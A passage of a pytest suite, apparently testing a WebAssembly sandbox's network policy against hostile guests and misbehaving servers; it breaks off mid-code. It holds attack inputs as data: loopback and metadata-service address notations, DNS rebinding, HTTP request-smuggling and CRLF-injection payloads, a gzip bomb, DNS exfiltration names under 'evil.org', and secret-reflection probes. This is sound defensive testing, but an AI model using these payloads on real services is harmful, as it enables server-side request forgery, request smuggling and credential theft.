"""The network, attacked by guests and by servers: with real guests, servers that misbehave, and names that we answer.

Where it matters at which address something arrives, the run is made on an island (`tests/network/island.py`): all
addresses are this machine there, so what was seen nowhere was connected to nowhere.
"""

from __future__ import annotations

import gc
import json
import logging
import os
import ssl
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import trustme

from tests.network import island as islands
from tests.network.conftest import Servers
from tests.network.hostile_servers import (
    BOMB,
    GIB,
    HostileServer,
    full_port,
    hostile_server,
    proxy_server,
    wait_for_the_end,
)
from tests.network.island import Island
from tests.network.servers import echo_server, silent_server
from tests.support.waiting import wait_until
from wasm_sandbox import CodeResult, ErrorKind, Limits, Network, Request, Secret, run_code
from wasm_sandbox.options import Isolation

pytestmark = pytest.mark.long

ISOLATIONS: list[Isolation] = ["thread", "process"]
PUBLIC, PUBLIC_6 = "93.184.216.34", "2606:2800:220:1:248:1893:25c8:1946"
"""Addresses that are no part of any private network."""

VALUE = "sk-live/4eC39HqLyjWDar+jtT1zdp7dc"


@pytest.fixture(scope="module")
def island() -> Iterator[Island]:
    if why := islands.why_not():
        pytest.skip(f"no island: {why}")
    with islands.island() as made:
        yield made


@pytest.fixture(scope="module")
def authority() -> trustme.CA:
    return trustme.CA()


@pytest.fixture(scope="module")
def server() -> Iterator[HostileServer]:
    with hostile_server() as made:
        yield made


@pytest.fixture(scope="module")
def tls_server(authority: trustme.CA) -> Iterator[HostileServer]:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    authority.issue_cert("localhost").configure_cert(context)
    with hostile_server(context) as made:
        yield made


@pytest.fixture(scope="module")
def servers(
    server: HostileServer, tls_server: HostileServer, authority: trustme.CA, tmp_path_factory: pytest.TempPathFactory
) -> Servers:
    file = tmp_path_factory.mktemp("authority") / "ca.pem"
    authority.cert_pem.write_to_path(file)
    return Servers(server.server_address[1], tls_server.server_address[1], str(file))


# --- Names and addresses --------------------------------------------------------------------------------

CONNECT = """
import socket
found = []
for host in hosts:
    try:
        with socket.create_connection((host, 80), timeout=5) as s:
            s.sendall(f"GET /ok HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n".encode())
            found.append(s.recv(100)[-2:].decode())
    except OSError as error:
        found.append(type(error).__name__ + ": " + str(error))
found
"""

FORBIDDEN = [
    "10.0.0.1", "10.255.255.255", "172.16.0.1", "172.31.255.254", "192.168.1.1", "127.0.0.1", "127.255.255.254",
    "169.254.1.1", "169.254.169.254", "169.254.170.2", "100.64.0.1", "100.100.100.200", "168.63.129.16",
    "::1", "fc00::1", "fd12:3456::1", "fe80::1", "fec0::1", "fd00:ec2::254", "fd20:ce::254",
]  # fmt: skip
"""Addresses of private networks, of this machine, its links, and of metadata services."""

NEVER = [
    "0.0.0.0", "0.0.0.1", "192.0.0.8", "192.0.0.192", "192.0.2.1", "198.51.100.1", "203.0.113.1", "192.88.99.1",
    "198.18.0.1", "224.0.0.1", "239.255.255.255", "240.0.0.1", "255.255.255.255", "::", "::7f00:1", "::ffff:127.0.0.1",
    "::ffff:0:7f00:1", "64:ff9b::7f00:1", "64:ff9b::a00:1", "64:ff9b:1::7f00:1", "2002:7f00:1::", "2002:a00:1::1",
    "2001:0:7f00:1::1", "2001:10::1", "2001:db8::1", "3fff::1", "100::1", "5f00::1", "ff02::1",
]  # fmt: skip
"""Addresses that no setting allows (but 127.0.0.1, mapped, which `private` does)."""


def _names_of(addresses: list[str]) -> dict[str, list[list[str]]]:
    return {f"n{number}_example_com": [[address]] for number, address in enumerate(addresses)}


def test_no_name_leads_to_an_address_that_is_forbidden(island: Island) -> None:
    addresses = [*FORBIDDEN, *NEVER]
    names = _names_of(addresses)
    island.names(**names)
    result = island.run(CONNECT, {"hosts": [name.replace("_", ".") for name in names]})
    assert result.error is None, result.error
    for address, found in zip(addresses, result.value, strict=True):
        assert found.startswith("PermissionError: [Errno 2] the network policy does not allow"), (address, found)
    assert island.visits() == []
    assert island.asked() == {name.replace("_", ".") for name in names}


def test_no_name_leads_to_an_address_that_stands_for_another_whatever_is_allowed(island: Island) -> None:
    names = _names_of([address for address in NEVER if address != "::ffff:127.0.0.1"])
    island.names(**names)
    result = island.run(CONNECT, {"hosts": [name.replace("_", ".") for name in names]}, private=True)
    assert result.error is None, result.error
    assert [found for found in result.value if not found.startswith("PermissionError")] == []
    assert island.visits() == []


NOTATIONS = [
    "127.0.0.1", "127.0.0.1.", "127.1", "127.0.1", "2130706433", "0x7f000001", "0X7F.1", "0177.0.0.1", "0177.1",
    "017700000001", "0x7f.0x0.0x0.0x1", "127.0.0.01", "localhost", "LOCALHOST", "localhost.", "[::1]", "::1",
    "0:0:0:0:0:0:0:1", "::ffff:127.0.0.1", "::ffff:7f00:1", "0:0:0:0:0:ffff:127.0.0.1", "::127.0.0.1",
    "127。0。0。1", "\uff11\uff12\uff17.0.0.1", "①②⑦.⓪.⓪.①", "ⓛⓞⓒⓐⓛⓗⓞⓢⓣ", "\uff4cocalhost",
    "loca\u00adlhost", "127.0.0.1%lo", "::1%lo", "fe80::1%1", "0", "0.0.0.0", "::", "", "127.0.0.1\0.example.com",
    "127.0.0.1 ", " 127.0.0.1", "127.0.0.1#@example.com", "user@127.0.0.1", "127.0.0.1:80", "127.0.0.256",
    "4294967297", "127.0.0.1/8", "xn--localhost-", "..", ".", "localhost..", "*", "127.0.0.1\r\n",
]  # fmt: skip


def test_no_notation_of_an_address_leads_to_this_machine(island: Island) -> None:
    island.names()
    result = island.run(CONNECT, {"hosts": NOTATIONS})
    assert result.error is None, result.error
    for notation, found in zip(NOTATIONS, result.value, strict=True):
        assert found.startswith(("PermissionError", "gaierror", "UnicodeError")), (notation, found)
    assert island.visits() == []


def test_what_is_denied_is_denied_in_any_notation(island: Island) -> None:
    island.names()
    options: dict[str, Any] = {"deny": ["127.0.0.1", "localhost", "[::1]"], "private": True}
    result = island.run(CONNECT, {"hosts": [*NOTATIONS, "127.0.0.2"]}, **options)
    assert result.error is None, result.error
    assert result.value[-1] == "ok"
    assert [found for found in result.value[:-1] if found == "ok"] == []
    assert [visit.address for visit in island.visits()] == ["127.0.0.2"]


def test_a_name_that_changes_after_it_was_checked_is_connected_to_where_it_was_checked(island: Island) -> None:
    island.names(rebind_example_com=[[PUBLIC], ["127.0.0.1"]], both_example_com=[["127.0.0.1", PUBLIC, "10.0.0.1"]])
    result = island.run(CONNECT, {"hosts": ["rebind.example.com", "rebind.example.com", "both.example.com"]})
    assert result.error is None, result.error
    first, second, both = result.value
    assert (first, both) == ("ok", "ok")
    assert "does not allow rebind.example.com" in second
    assert [visit.address for visit in island.visits()] == [PUBLIC, PUBLIC]
    assert [connection.address for connection in result.connections] == [PUBLIC, None, PUBLIC]
    assert "127.0.0.1" in (result.connections[1].reason or "")
    assert "127.0.0.1" not in second  # names of inside tell a guest no addresses


def test_a_connection_that_fails_is_not_tried_at_an_address_that_is_forbidden(island: Island) -> None:
    island.names(closed_example_com=[[PUBLIC, "127.0.0.1"]])
    code = "import socket\nsocket.create_connection(('closed.example.com', 81))"
    result = island.run(code, allow=["*:81"])
    assert result.error is not None
    assert result.error.exception_name == "ConnectionRefusedError"
    assert island.visits() == []


INWARDS = [
    "http://127.0.0.1/", "http://localhost/", "http://10.0.0.1/x", "http://[::1]/", "http://169.254.169.254/latest/",
    "http://inside.example.com/", "http://0x7f.1/", "http://2130706433/", "http://[::ffff:127.0.0.1]/",
    "//127.0.0.1/", "https://192.168.0.1/", "http://api.example.com.127.0.0.1/", "http://127.0.0.1:443/",
]  # fmt: skip

FOLLOW = """
import urllib.request
found = []
for url in urls:
    try:
        found.append(urllib.request.urlopen("http://api.example.com/to/" + url, timeout=5).read().decode())
    except OSError as error:
        found.append(str(error))
found
"""


def test_no_redirect_leads_into_the_network(island: Island) -> None:
    island.names(api_example_com=[[PUBLIC]], inside_example_com=[["192.168.0.10"]])
    result = island.run(FOLLOW, {"urls": INWARDS})
    assert result.error is None, result.error
    for url, found in zip(INWARDS, result.value, strict=True):
        assert "the network policy does not allow" in found, (url, found)
    assert {visit.address for visit in island.visits()} == {PUBLIC}
    assert {request.url.partition("/to/")[0] for request in result.requests} == {"http://api.example.com"}


def test_names_that_are_not_allowed_are_asked_for_nowhere(island: Island) -> None:
    island.names(api_example_com=[[PUBLIC]], api_example_com_evil_org=[[PUBLIC]])
    stolen = [f"{part}.evil.org" for part in ("s3cret", "api.example.com", "a" * 60)]
    stolen += ["s3cret.api.example.com", "example.com", "xapi.example.com", "api.example.com:80.evil.org", "evil.org."]
    code = (
        CONNECT
        + """
import asyncio, http.client, urllib.request
for host in hosts:
    for act in (
        lambda: urllib.request.urlopen(f"http://{host}/"), lambda: socket.getaddrinfo(host, 80),
        lambda: socket.gethostbyname(host), lambda: socket.getfqdn(host), lambda: socket.gethostbyaddr(host),
    ):
        try:
            act()
        except (OSError, ValueError, http.client.InvalidURL):
            pass
    try:
        await asyncio.get_running_loop().getaddrinfo(host, 80)
        await asyncio.open_connection(host, 443, ssl=True)
    except (OSError, ValueError):
        pass
found
"""
    )
    result = island.run(code, {"hosts": stolen}, allow=["api.example.com"])
    assert result.error is None, result.error
    assert island.asked() == set()
    assert island.visits() == []
    assert island.run(CONNECT, {"hosts": ["api.example.com"]}, allow=["api.example.com"]).value == ["ok"]
    assert island.asked() == {"api.example.com"}


def test_names_without_an_answer_end_with_the_deadline_and_keep_no_other_run_from_its_names(island: Island) -> None:
    island.names(slow_example_com=[], api_example_com=[[PUBLIC]])
    result = island.run(CONNECT, {"hosts": ["slow.example.com"]}, {"timeout_seconds": 0.5})
    assert result.error is not None
    assert result.error.kind is ErrorKind.TIMEOUT
    assert result.usage is not None
    assert result.usage.wall_seconds < 2
    # each connect is given up, and the next one begins: as many lookups as a run may have, and no more, are under way
    island.names(slow_example_com=[], api_example_com=[[PUBLIC]])
    before = island.threads()
    greedy = """
import socket
for _ in range(40):
    try:
        socket.create_connection(("slow.example.com", 80), timeout=0.02)
    except OSError:
        pass
"""
    modest = "import socket, time\nbegan = time.monotonic()\nsocket.create_connection(('api.example.com', 80)).close()"
    first, second = island.run_together((greedy, {}), (f"{modest}\ntime.monotonic() - began", {}), 0.6)
    assert first.error is None, first.error
    assert second.error is None, second.error
    assert second.value < 2
    assert island.threads() <= before + 5


def test_tls_is_for_the_host_of_its_connection(island: Island) -> None:
    island.names(api_example_com=[[PUBLIC]], other_example_com=[[PUBLIC_6]])
    code = """
import socket, ssl
context = ssl.create_default_context()
context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
found = []
for name, host in (("other.example.com", "other.example.com"), ("api.example.com", "other.example.com"),
                   (None, "api.example.com"), ("API.example.com.", "api.example.com"), ("", "api.example.com"),
                   ("api.example.com", "api.example.com:80"), ("127.0.0.1", "api.example.com")):
    with socket.create_connection(("api.example.com", 443)) as s:
        try:
            with context.wrap_socket(s, server_hostname=name) as t:
                t.sendall(f"GET /ok HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n".encode())
                found.append(t.recv(100)[-2:].decode())
        except (OSError, ValueError) as error:
            found.append(type(error).__name__)
found
"""
    result = island.run(code)
    assert result.error is None, result.error
    assert result.value[:2] == ["PermissionError", "PermissionError"]
    assert result.value[2:4] == ["ok", "ok"]  # the host's own name goes out, whatever a guest leaves out
    assert {*result.value[5:]} == {"PermissionError"}
    visits = [visit for visit in island.visits() if visit.heads]
    assert {visit.address for visit in visits} == {PUBLIC}
    assert all(b"host: api.example.com\r\n" in visit.received for visit in visits)


# --- Requests -------------------------------------------------------------------------------------------

PIPELINES = {
    "a request in the body of one with two lengths": "POST /ok HTTP/1.1\r\nHost: {host}\r\nContent-Length: 4\r\n"
    "Content-Length: 60\r\n\r\nabcdGET /admin HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "a length and chunks": "POST /ok HTTP/1.1\r\nHost: {host}\r\nContent-Length: 60\r\nTransfer-Encoding: chunked\r\n"
    "\r\n0\r\n\r\nGET /admin HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "chunks in other words": "POST /ok HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n"
    "GET /admin HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "chunks, and again": "POST /ok HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: "
    "identity\r\n\r\n0\r\n\r\nGET /admin HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "a space before the colon": "POST /ok HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n"
    "GET /admin HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "a tab as a name": "POST /ok HTTP/1.1\r\nHost: {host}\r\n\tTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
    "GET /admin HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "a length with a sign": "POST /ok HTTP/1.1\r\nHost: {host}\r\nContent-Length: +4\r\n\r\nabcd"
    "GET /admin HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "a chunk that lies": "POST /ok HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nab\r\n0\r\n\r\n"
    "GET /admin HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "a chunk with a sign": "POST /ok HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\n\r\n-1\r\na\r\n0\r\n\r\n"
    "GET /admin HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "a body without a length": "GET /ok HTTP/1.1\r\nHost: {host}\r\n\r\nGET /admin HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "an upgrade to HTTP/2": "GET /ok HTTP/1.1\r\nHost: {host}\r\nConnection: Upgrade, HTTP2-Settings\r\n"
    "Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\nGET /admin HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "a tunnel": "CONNECT {host} HTTP/1.1\r\nHost: {host}\r\n\r\nGET /admin HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "an empty line first": "\r\nGET /admin HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "a request line of HTTP/0.9": "GET /admin\r\n\r\n",
    "a request line with tabs": "GET\t/ok\tHTTP/1.1\r\nHost: {host}\r\n\r\nGET /admin HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "a lone carriage return": "GET /ok HTTP/1.1\r\nHost: {host}\r\nX: a\rGET /admin HTTP/1.1\r\n\r\n",
    "a target with a line break": "GET /ok\r\nGET /admin HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "a header with a null": "GET /ok HTTP/1.1\r\nHost: {host}\r\nX: a\0b\r\n\r\nGET /admin HTTP/1.1\r\n\r\n",
    "another method by a header": "POST /ok HTTP/1.1\r\nHost: {host}\r\nX-HTTP-Method-Override: DELETE\r\n"
    "X-Original-URL: /admin\r\nContent-Length: 0\r\n\r\n",
    "dots": "GET /ok/../admin HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "dots in encoding": "GET /ok/%2e%2e/admin HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "slashes": "GET //admin HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "a whole URL of another host": "GET http://127.0.0.2/admin HTTP/1.1\r\nHost: {host}\r\n\r\n",
}


@pytest.mark.parametrize("text", PIPELINES.values(), ids=PIPELINES)
@pytest.mark.parametrize("first", ["", "GET /ok HTTP/1.1\r\nHost: {host}\r\n\r\n"], ids=["alone", "in a pipeline"])
def test_no_request_is_smuggled_past_the_policy(server: HostileServer, servers: Servers, text: str, first: str) -> None:
    host = f"localhost:{servers.http}"
    allow = [f"GET,POST,DELETE http://{host}/ok", f"GET http://{host}/ok/*"]
    server.visits = []
    code = """
import socket
s = socket.create_connection(("localhost", port))
answer = b""
try:
    s.sendall(text.encode())
    s.settimeout(0.5)
    while data := s.recv(1000):
        answer += data
except OSError as error:
    answer += f"{type(error).__name__}: {error}".encode()
answer.decode()
"""
    sent = (first + text).replace("{host}", host)
    result = run_code(code, {"port": servers.http, "text": sent}, network=servers.network(allow=allow))
    assert result.error is None, result.error
    assert "PermissionError" in result.value, result.value
    visits = server.ended_visits()
    received = b"".join(visit.received for visit in visits)
    assert b"admin" not in received
    assert b"DELETE" not in received
    assert received.count(b" HTTP/1.1\r\n") == sum(len(visit.heads) for visit in visits) <= 2
    assert {head for visit in visits for head in visit.heads} <= {b"GET /ok HTTP/1.1", b"POST /ok HTTP/1.1"}


INJECTIONS = """
import http.client, socket
class Reckless(http.client.HTTPConnection):
    _validate_path = _validate_host = _validate_method = lambda *_: None
found = []
for method, target, headers in (
    ("GET /admin HTTP/1.1\\r\\nX-Injected: 1\\r\\n\\r\\nGET", "/ok", []),
    ("GET", "/ok HTTP/1.1\\nX-Injected: 1\\nY: ", []),
    ("GET", "/ok\\tHTTP/1.1\\r\\nX-Injected: 1\\r\\nY: ", []),
    ("GET", "/ok", [b"X: a\\nX-Injected: 1"]),
    ("GET", "/ok", [b"X: a\\rX-Injected: 1"]),
    ("GET", "/ok", [b"X: a\\r\\n X-Injected: 1"]),
    ("GET", "/ok", [b"X\\nX-Injected: 1"]),
    ("GET", "/ok", [b"X: a\\x00\\nX-Injected: 1"]),
    ("GET", "/ok", [b"X-Injected : 1"]),
    ("GET", "/ok", [b"X: a\\r\\nHost: 127.0.0.2"]),
    ("GET", "/ok", [b"X: a\\r\\n\\r\\nGET /admin HTTP/1.1\\r\\nX-Injected: 1"]),
):
    connection = Reckless(place)
    connection.putrequest(method, target, skip_accept_encoding=True)
    connection._buffer.extend(headers)
    try:
        connection.endheaders()
        found.append(connection.getresponse().read().decode())
        connection.sock.sendall(b"GET /ok HTTP/1.1\\r\\nHost: " + place.encode() + b"\\r\\n\\r\\n")
        found[-1] += connection.sock.recv(1000).decode()
    except (OSError, http.client.HTTPException, AttributeError) as error:
        found.append(type(error).__name__)
for host in ("localhost\\r\\nX-Injected: 1", "localhost\\nX", "localhost\\0", "localhost X-Injected: 1"):
    try:
        socket.create_connection((host, int(place.rpartition(":")[2])))
        found.append(host)
    except PermissionError as error:
        found.append(type(error).__name__)
found
"""


def test_a_line_that_is_injected_reaches_no_server_as_one(server: HostileServer, servers: Servers) -> None:
    server.visits = []
    place = f"localhost:{servers.http}"
    result = run_code(INJECTIONS, {"place": place}, network=servers.network(allow=[f"GET http://{place}/ok"]))
    assert result.error is None, result.error
    assert {*result.value} == {"ok", "PermissionError"}
    assert result.value.count("ok") == 1  # the whole request before one that is refused
    visits = server.ended_visits()
    received = b"".join(visit.received for visit in visits)
    assert b"injected" not in received.lower()
    assert b"127.0.0.2" not in received
    assert {head for visit in visits for head in visit.heads} <= {b"GET /ok HTTP/1.1"}


def test_tls_that_begins_in_the_middle_changes_no_request(tls_server: HostileServer, servers: Servers) -> None:
    """A request that was checked as one without TLS is not sent with it."""
    tls_server.visits = []
    place = f"localhost:{servers.https}"
    code = """
import socket, ssl
s = socket.create_connection(("localhost", int(place.rpartition(":")[2])))
s.sendall(b"GET /ok HTTP/1.1\\r\\nHost: " + place.encode() + b"\\r\\n\\r\\n")
try:
    found = ssl.create_default_context().wrap_socket(s, server_hostname="localhost").recv(100)
except OSError as error:
    found = type(error).__name__
found
"""
    # While the gate is asked, TLS could begin beneath the request.
    options = {"allow": [f"http://{place}/*"], "on_request": lambda request: time.sleep(0.5)}
    result = run_code(code, {"place": place}, network=servers.network(**options))
    assert result.value == "PermissionError", result.error
    assert [head for visit in tls_server.ended_visits() for head in visit.heads] == []


# --- Servers that misbehave -----------------------------------------------------------------------------

GET = "import urllib.request\nanswer = urllib.request.urlopen(url)\nlen(answer.read())"

OVERFLOWS = {
    "big": "(Network.max_bytes_in)",
    "line": "the server's answer is malformed",
    "headers": "the server's answer is malformed",
    "chunk": "the server's answer is malformed",
    "interim": "interim answers",
}


@pytest.mark.parametrize("isolation", ISOLATIONS)
@pytest.mark.parametrize("path", OVERFLOWS)
def test_an_answer_without_an_end_ends_in_words_and_takes_little_memory(
    server: HostileServer, servers: Servers, path: str, isolation: Isolation
) -> None:
    network = servers.network(max_bytes_in=8 << 20)
    inputs = {"url": f"{servers.inputs['http']}/{path}"}
    run_code("1", network=network, isolation=isolation)
    server.visits, before = [], _resident()
    result = run_code(GET, inputs, network=network, isolation=isolation)
    assert result.error is not None
    assert OVERFLOWS[path] in result.error.message, result.error
    assert _resident() - before < 100 << 20
    assert server.visits[0].sent < 40 << 20  # what the system's buffers took, and we did not


def test_trailers_without_an_end_are_an_end(servers: Servers) -> None:
    result = run_code(GET, {"url": f"{servers.inputs['http']}/trailers"}, network=servers.network())
    assert result.error is not None
    assert "the server's answer is malformed" in result.error.message


def test_what_a_guest_does_not_read_stays_with_the_server(server: HostileServer, servers: Servers) -> None:
    code = "import time, urllib.request\nanswer = urllib.request.urlopen(url)\ntime.sleep(1)\nlen(answer.read(10))"
    server.visits, before = [], _resident()
    network = servers.network(max_bytes_in=10 * GIB)
    result = run_code(code, {"url": f"{servers.inputs['http']}/big"}, network=network)
    assert result.value == 10, result.error
    assert _resident() - before < 60 << 20
    assert server.visits[0].sent < 40 << 20
    assert result.connections[0].bytes_in < 4 << 20


@pytest.mark.parametrize("isolation", ISOLATIONS)
@pytest.mark.parametrize("path", ["drip", "drip_head"])
def test_a_byte_now_and_then_ends_with_the_deadline(servers: Servers, path: str, isolation: Isolation) -> None:
    inputs = {"url": f"{servers.inputs['http']}/{path}"}
    network = servers.network(io_seconds=0.3 if path == "drip" else 60)
    _check_timeout(run_code(GET, inputs, network=network, limits=Limits(timeout_seconds=1.0), isolation=isolation))


def test_what_unpacks_to_a_gigabyte_is_the_guests_own_matter(servers: Servers) -> None:
    code = """
import gzip, urllib.request, zlib
packed = urllib.request.urlopen(url).read()
try:
    gzip.decompress(packed)
except MemoryError:
    found = "MemoryError"
[len(packed), found]
"""
    before = _resident()
    limits = Limits(memory_bytes=128 << 20)
    result = run_code(code, {"url": f"{servers.inputs['http']}/bomb"}, network=servers.network(), limits=limits)
    if result.error is None:
        assert result.value == [len(BOMB), "MemoryError"]
    else:
        assert result.error.kind is ErrorKind.OUT_OF_MEMORY
    assert result.requests[0].bytes_in == len(BOMB)
    assert _resident() - before < 300 << 20
    assert run_code("1 + 1").value == 2


def test_a_handshake_that_stalls_ends_with_the_time_for_connecting(servers: Servers) -> None:
    with silent_server() as port:
        network = servers.network(allow=[f"localhost:{port}"], connect_seconds=0.4)
        began = time.monotonic()
        result = run_code(GET, {"url": f"https://localhost:{port}/"}, network=network)
        assert time.monotonic() - began < 3
    assert result.error is not None
    assert "handshake" in result.error.message
    assert result.connections[0].outcome == "failed"


def test_a_server_that_is_no_server_of_tls_fails_in_one_line(servers: Servers) -> None:
    with echo_server() as port:
        network = servers.network(allow=[f"localhost:{port}", f"localhost:{servers.http}"], connect_seconds=1)
        for place in (port, servers.http):
            result = run_code(GET, {"url": f"https://localhost:{place}/"}, network=network)
            assert result.error is not None
            assert result.error.exception_name == "URLError"
            assert "\n" not in result.error.message


# --- Deadlines ------------------------------------------------------------------------------------------


def _check_timeout(result: CodeResult) -> None:
    assert result.error is not None
    assert result.error.kind is ErrorKind.TIMEOUT, result.error
    assert result.usage is not None
    assert result.usage.wall_seconds < 3


@pytest.fixture(scope="module")
def stalls(servers: Servers) -> Iterator[dict[str, tuple[str, dict[str, Any]]]]:
    """Phase -> a program that stays in it, and options of its network."""
    post = "import urllib.request\nurllib.request.urlopen(url, bytes(40 << 20))"
    raw = "import socket\ns = socket.create_connection(('localhost', port))\n"
    with full_port() as full, silent_server() as silent, proxy_server(wait_for_the_end) as (proxy, _):
        http = servers.inputs["http"]
        for isolation in ISOLATIONS:  # what is there for the whole process, as an event loop, is there
            run_code(GET, {"url": f"{http}/ok"}, network=servers.network(), isolation=isolation)
        yield {
            "connecting": (GET, {"url": f"http://localhost:{full}/"}),
            "a handshake": (GET, {"url": f"https://localhost:{silent}/"}),
            "a proxy": (GET, {"url": f"{http}/ok", "proxy": f"http://127.0.0.1:{proxy}"}),
            "a gate": (GET, {"url": f"{http}/ok", "on_request": lambda request: time.sleep(5)}),
            "sending": (post, {"url": f"{http}/deaf", "max_bytes_out": GIB}),
            "waiting for an answer": (GET, {"url": f"{http}/silent"}),
            "an answer": (GET, {"url": f"{http}/drip"}),
            "receiving": (raw + "s.recv(1)", {"port": silent, "allow": [f"tcp://localhost:{silent}"]}),
            "polling": (raw + "import select\nselect.select([s], [], [])", {"port": silent}),
            "closing": (raw + "s.close()\nwhile True: pass", {"port": silent}),
        }


PHASES = [
    "connecting", "a handshake", "a proxy", "a gate", "sending", "waiting for an answer", "an answer", "receiving",
    "polling", "closing",
]  # fmt: skip


@pytest.mark.parametrize("isolation", ISOLATIONS)
@pytest.mark.parametrize("phase", PHASES)
def test_a_deadline_ends_each_phase(
    servers: Servers, stalls: dict[str, tuple[str, dict[str, Any]]], phase: str, isolation: Isolation
) -> None:
    code, options = stalls[phase]
    inputs = {name: value for name, value in options.items() if name in ("url", "port")}
    network = servers.network(**_options(options))
    before = _descriptors()
    result = run_code(code, inputs, network=network, limits=Limits(timeout_seconds=0.6), isolation=isolation)
    _check_timeout(result)
    assert {connection.outcome for connection in result.connections} <= {"closed", "failed"}
    assert all(request.outcome == "failed" for request in result.requests)
    wait_until(lambda: _descriptors() <= before, seconds=5)


@pytest.mark.parametrize("isolation", ISOLATIONS)
@pytest.mark.parametrize("end", ["timeout", "exception", "none"])
@pytest.mark.parametrize("is_closed", [True, False])
def test_an_answer_that_is_not_read_to_its_end_is_ok_if_the_guest_closed_it(
    servers: Servers, is_closed: bool, end: str, isolation: Isolation
) -> None:
    closing = "answer.close()\n" if is_closed else ""
    endings = {"timeout": "while True: pass", "exception": "1 / 0", "none": ""}
    code = f"import urllib.request\nanswer = urllib.request.urlopen(url)\n{closing}{endings[end]}"
    url = f"{servers.inputs['http']}/drip"
    limits = Limits(timeout_seconds=0.6)
    result = run_code(code, {"url": url}, network=servers.network(), limits=limits, isolation=isolation)
    (request,) = result.requests
    ending = ("ok", None) if is_closed else ("failed", "the guest ended before the whole answer came")
    assert (request.status, request.outcome, request.reason) == (200, *ending)


def _options(options: dict[str, Any]) -> dict[str, Any]:
    """Options of a network, with the port of its program allowed."""
    port = options.get("port") or int(options["url"].split("/")[2].rpartition(":")[2])
    rest = {name: value for name, value in options.items() if name not in ("url", "port")}
    return {"allow": [f"localhost:{port}"], **rest}


# --- Many of them ---------------------------------------------------------------------------------------


def test_ten_thousand_connects_that_are_refused_cost_little(servers: Servers) -> None:
    code = """
import socket
count = 0
for n in range(10_000):
    try:
        socket.create_connection((f"host{n}.example.com", 80))
    except PermissionError:
        count += 1
count
"""
    before, descriptors = _resident(), _descriptors()
    result = run_code(code, network=servers.network())
    assert result.value == 10_000, result.error
    assert len(result.connections) == 1000
    assert _resident() - before < 50 << 20
    assert _descriptors() <= descriptors


def test_ten_thousand_connects_that_stay_open_are_as_many_as_may_be(servers: Servers) -> None:
    code = """
import socket
kept, words = [], set()
for _ in range(10_000):
    try:
        kept.append(socket.create_connection(("localhost", port)))
    except OSError as error:
        words.add(str(error))
[len(kept), sorted(words)]
"""
    before = _descriptors()
    result = run_code(code, {"port": servers.http}, network=servers.network(max_connections=20))
    assert result.error is None, result.error
    count, words = result.value
    assert count == 20
    assert len(words) == 1
    assert "(Network.max_connections)" in words[0]
    assert len(result.connections) <= 1000
    wait_until(lambda: _descriptors() <= before, seconds=5)


@pytest.mark.parametrize("isolation", ISOLATIONS)
def test_descriptors_and_threads_are_level_after_five_thousand_connections(
    servers: Servers, isolation: Isolation
) -> None:
    code = """
import socket
for n in range(count):
    s = socket.create_connection(("localhost", port))
    if n % 3 == 0:
        s.sendall(b"x\\n")
    if n % 3 == 1:
        s.shutdown(socket.SHUT_WR)
    s.close()
"""
    with echo_server() as port:
        network = servers.network(allow=[f"tcp://localhost:{port}"])
        run_code(code, {"port": port, "count": 20}, network=network, isolation=isolation)
        time.sleep(0.3)
        before = _descriptors(), threading.active_count()
        for count in (4500, 500) if isolation == "thread" else (500, 100):
            result = run_code(code, {"port": port, "count": count}, network=network, isolation=isolation)
            assert result.error is None, result.error
        wait_until(lambda: _descriptors() <= before[0] + 2, seconds=5)
        wait_until(lambda: threading.active_count() <= before[1] + 2, seconds=5)


# --- Secrets --------------------------------------------------------------------------------------------


def _secretive(servers: Servers, **options: Any) -> Network:
    secret = Secret(VALUE, hosts=[f"localhost:{servers.https}"], headers=["authorization"], query=["key"])
    return servers.network(secrets={"API_KEY": secret}, **options)


LOOK = """
import builtins, gc, json, os, sys, urllib.error, urllib.request
import _sandbox_live, _sandbox_net
key, found = os.environ["API_KEY"], {}

def ask(path, base=https, data=None, **headers):
    request = urllib.request.Request(base + path, data, {n.replace("_", "-"): v for n, v in headers.items()})
    try:
        with urllib.request.urlopen(request) as answer:
            return repr(answer.headers.items()) + answer.read().decode("latin-1")
    except (OSError, ValueError) as error:
        return repr(error) + repr(getattr(error, "headers", "")) + str(getattr(error, "reason", ""))

found["the environment"] = repr(dict(os.environ)) + repr(secrets) + repr(dict(secrets))
for size in ("", 1, 2, 3, 7, 33, 64):
    found[f"reflected in pieces of {size}"] = ask(f"/mirror/{size}", Authorization=f"Bearer {key}")
found["a query"] = ask("/mirror?key=" + key) + ask("/mirror?other=" + key) + ask("/mirror/3?a=1&key=" + key)
found["the first line"] = ask("/mirror_reason", Authorization=key) + ask("/mirror_status", Authorization=key)
import base64
basic = base64.b64encode(f"user:{key}".encode()).decode()
found["basic"] = ask("/mirror", Authorization=f"Basic {basic}")
